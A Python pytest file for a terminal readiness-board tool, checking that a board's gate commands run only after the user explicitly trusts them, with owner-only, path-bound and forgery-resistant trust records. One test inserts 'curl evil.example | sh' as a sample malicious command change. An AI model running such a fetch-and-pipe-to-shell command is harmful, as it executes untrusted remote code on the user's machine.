"""Trust: nothing runs until the user trusts the board's exact commands; a board cannot trust itself."""

from __future__ import annotations

import os
from pathlib import Path

from click.testing import CliRunner

from readiness_tui.cli import cli
from readiness_tui.core.board.store import BoardStore
from readiness_tui.core.gates import GateSession, commands_hash, is_trusted, revoke, trust
from readiness_tui.core.gates.trust import trust_file

BOARD = """\
[board]
title = "t"
trusted = true   # a board claiming trust must change nothing

[[items]]
id = "A"
status = "todo"
[items.gate]
verify = "touch ran-A && echo ok"
"""


def make(tmp_path: Path, text: str = BOARD) -> Path:
    (tmp_path / ".git").mkdir(exist_ok=True)
    path = tmp_path / "board.toml"
    path.write_text(text)
    return path


def test_untrusted_board_runs_nothing(tmp_path: Path) -> None:
    path = make(tmp_path)
    store = BoardStore.load(path)
    s = GateSession(path, store.board)
    assert not s.trusted
    assert s.views()["A"].status == "untrusted"
    assert s.run() == [] and not (tmp_path / "ran-A").exists()
    assert s.jobs_for() == []


def test_trust_then_run(tmp_path: Path) -> None:
    path = make(tmp_path)
    s = GateSession(path, BoardStore.load(path).board)
    s.trust()
    assert is_trusted(path, s.board)
    [res] = s.run()
    assert res.exit_code == 0 and (tmp_path / "ran-A").exists()
    assert s.views()["A"].status == "pass"


def test_trust_is_recorded_outside_the_repo(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    tf = trust_file()
    assert tf.exists() and tmp_path not in tf.parents
    assert str(os.path.realpath(path)) in tf.read_text()
    assert oct(tf.stat().st_mode & 0o777) == oct(0o600)


def test_a_changed_command_needs_trust_again(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    assert is_trusted(path, BoardStore.load(path).board)
    path.write_text(BOARD.replace("touch ran-A && echo ok", "curl evil.example | sh"))
    changed = BoardStore.load(path)
    assert not is_trusted(path, changed.board)
    s = GateSession(path, changed.board)
    assert s.views()["A"].status == "untrusted" and s.run() == []


def test_adding_a_command_needs_trust_again(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    path.write_text(BOARD + '\n[[items]]\nid = "B"\n[items.gate]\nverify = "echo new"\n')
    assert not is_trusted(path, BoardStore.load(path).board)


def test_trust_is_bound_to_the_board_path(tmp_path: Path) -> None:
    path = make(tmp_path)
    board = BoardStore.load(path).board
    trust(path, board)
    other = tmp_path / "copy.toml"
    other.write_text(path.read_text())
    assert not is_trusted(other, BoardStore.load(other).board)


def test_hash_ignores_everything_but_commands(tmp_path: Path) -> None:
    path = make(tmp_path)
    a = BoardStore.load(path).board
    path.write_text(BOARD.replace('status = "todo"', 'status = "done"'))
    assert commands_hash(a) == commands_hash(BoardStore.load(path).board)


def test_board_without_commands_needs_no_trust(tmp_path: Path) -> None:
    path = make(tmp_path, '[board]\ntitle="x"\n[[items]]\nid="A"\n[items.gate]\nevidence=["x"]\n')
    assert is_trusted(path, BoardStore.load(path).board)


def test_revoke(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    assert revoke(path) and not is_trusted(path, BoardStore.load(path).board)
    assert not revoke(path)


def test_trust_command_shows_commands_and_asks(tmp_path: Path) -> None:
    path = make(tmp_path)
    runner = CliRunner()
    res = runner.invoke(cli, ["trust", str(path)], input="n\n")
    assert res.exit_code == 1 and "touch ran-A && echo ok" in res.output
    assert not is_trusted(path, BoardStore.load(path).board)
    res = runner.invoke(cli, ["trust", str(path)], input="y\n")
    assert res.exit_code == 0 and is_trusted(path, BoardStore.load(path).board)
    res = runner.invoke(cli, ["trust", str(path)])
    assert res.exit_code == 0 and "already trusted" in res.output


def test_trust_command_yes_and_revoke(tmp_path: Path) -> None:
    path = make(tmp_path)
    runner = CliRunner()
    assert runner.invoke(cli, ["trust", str(path), "--yes"]).exit_code == 0
    assert is_trusted(path, BoardStore.load(path).board)
    assert runner.invoke(cli, ["trust", str(path), "--revoke"]).exit_code == 0
    assert not is_trusted(path, BoardStore.load(path).board)


def test_trust_command_on_a_broken_board(tmp_path: Path) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text("[board\n")
    res = CliRunner().invoke(cli, ["trust", str(bad)])
    assert res.exit_code == 2 and "Traceback" not in res.output


def test_a_board_without_a_file_is_never_trusted_with_commands() -> None:
    store = BoardStore.from_text(BOARD)
    s = GateSession(None, store.board)
    assert not s.trusted and s.jobs_for() == []
    assert GateSession(None, BoardStore.from_text('[[items]]\nid = "A"\n').board).trusted


# --- issue 13: the record binds what runs and where; the file is owner-only -----------------------


def _git_repo(path: Path) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q", str(path)], check=True)


def test_record_binds_timeout_root_and_board_path(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    assert is_trusted(path, BoardStore.load(path).board)
    path.write_text(BOARD.replace('verify = "touch', 'timeout_s = 1\nverify = "touch'))
    assert not is_trusted(path, BoardStore.load(path).board)  # timeout changed
    path.write_text(BOARD)
    assert is_trusted(path, BoardStore.load(path).board)
    assert not is_trusted(path, BoardStore.load(path).board, root=tmp_path / "elsewhere")
    other = tmp_path / "copy.toml"
    other.write_text(BOARD)
    assert not is_trusted(other, BoardStore.load(other).board)


def test_a_git_dir_created_above_moves_the_root_and_asks_again(tmp_path: Path) -> None:
    board_dir = tmp_path / "outer" / "project"
    board_dir.mkdir(parents=True)
    path = board_dir / "board.toml"
    path.write_text(BOARD)
    board = BoardStore.load(path).board
    trust(path, board)
    assert GateSession(path, board).trusted
    _git_repo(tmp_path / "outer")  # discovery now finds outer/ as the root
    s = GateSession(path, board)
    assert s.root == (tmp_path / "outer").resolve() and not s.trusted
    assert s.jobs_for() == []


def test_trust_file_and_dir_are_owner_only(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    assert trust_file().stat().st_mode & 0o777 == 0o600
    assert trust_file().parent.stat().st_mode & 0o777 == 0o700


def test_world_writable_trust_file_is_refused_with_a_fix(tmp_path: Path) -> None:
    path = make(tmp_path)
    trust(path, BoardStore.load(path).board)
    os.chmod(trust_file(), 0o666)
    assert not is_trusted(path, BoardStore.load(path).board)
    res = CliRunner().invoke(cli, ["trust", str(path), "--yes"])
    assert res.exit_code == 2 and f"chmod 600 {trust_file()}" in res.stderr
    res = CliRunner().invoke(cli, ["check", str(path)])
    assert res.exit_code == 1 and "chmod 600" in res.stderr
    assert not (tmp_path / "ran-A").exists()
    os.chmod(trust_file(), 0o600)
    assert is_trusted(path, BoardStore.load(path).board)


def test_forged_record_does_not_run(tmp_path: Path) -> None:
    import json

    path = make(tmp_path)
    other = tmp_path / "other.toml"
    other.write_text(BOARD.replace("touch ran-A && echo ok", "echo harmless"))
    trust(other, BoardStore.load(other).board)
    data = json.loads(trust_file().read_text())
    # a forged record for board.toml, copying the other board's hash, or a hash over the commands alone
    data["boards"][os.path.realpath(path)] = dict(data["boards"][os.path.realpath(other)])
    trust_file().write_text(json.dumps(data))
    assert not is_trusted(path, BoardStore.load(path).board)
    import hashlib

    legacy = hashlib.sha256(
        json.dumps({"repo_root": "", "commands": [["A", "touch ran-A && echo ok"]]}, sort_keys=True).encode()
    ).hexdigest()
    data["boards"][os.path.realpath(path)]["sha256"] = legacy
    trust_file().write_text(json.dumps(data))
    s = GateSession(path, BoardStore.load(path).board)
    assert not s.trusted and s.jobs_for() == []
